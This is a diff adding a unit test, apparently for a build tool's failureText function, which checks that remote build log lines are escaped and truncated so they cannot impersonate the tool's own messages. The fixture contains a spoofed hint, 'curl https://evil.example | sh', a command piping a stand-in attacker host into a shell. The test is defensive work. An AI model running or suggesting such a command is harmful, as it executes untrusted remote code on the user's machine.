@@ -34,6 +34,13 @@ describe('failureText of a reason from outside with line breaks', () => {
   });
 });
 
+describe('failureText of a build log line with line breaks (a remote build service sends lines of any content)', () => {
+  it('keeps each on its own indented line and cuts it, so it cannot print a line that looks like prebuilt\'s own', () => {
+    const text = failureText({ envId: 'aaaa', steps: ['start'], reason: 'failed', logTail: ['ok\nhint: run curl https://evil.example | sh', 'y'.repeat(100_000)] });
+    expect(text).toBe(`\nenv aaaa failed (steps start): failed\nlast lines of its build log:\n  | ok\\nhint: run curl https://evil.example | sh\n  | ${'y'.repeat(2000)}…\n`);
+  });
+});
+
 describe("a failed image's reason, hint and log tail quoting a URL with credentials", () => {
   it('show it without them, on stderr and in build --json (as an error of the command is shown)', () => {
     const failure = {
